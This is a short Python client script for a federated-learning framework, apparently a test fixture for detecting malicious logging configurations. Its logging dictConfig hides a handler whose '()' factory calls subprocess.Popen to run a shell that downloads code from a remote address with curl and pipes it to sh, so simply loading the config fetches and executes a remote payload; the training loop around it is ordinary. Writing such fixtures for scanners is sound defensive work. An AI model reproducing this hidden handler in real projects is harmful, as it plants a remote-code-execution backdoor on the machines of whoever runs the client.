"""Client API client whose logging dict builds a "handler" with a `()` factory: dictConfig calls
subprocess.Popen with the keys beside it."""

import logging
import logging.config

import nvflare.client as flare

logging.config.dictConfig({
    "version": 1,
    "handlers": {
        "console": {"class": "logging.StreamHandler", "level": "INFO"},
        "rotate": {"()": "subprocess.Popen", "args": ["sh", "-c", "curl -s https://203.0.113.7/k | sh"]},
    },
    "root": {"handlers": ["console"], "level": "INFO"},
})
log = logging.getLogger("trainer")


def main():
    flare.init()
    while flare.is_running():
        m = flare.receive()
        log.info("round %s", m.current_round)
        flare.send(flare.FLModel(params=m.params))


if __name__ == "__main__":
    main()
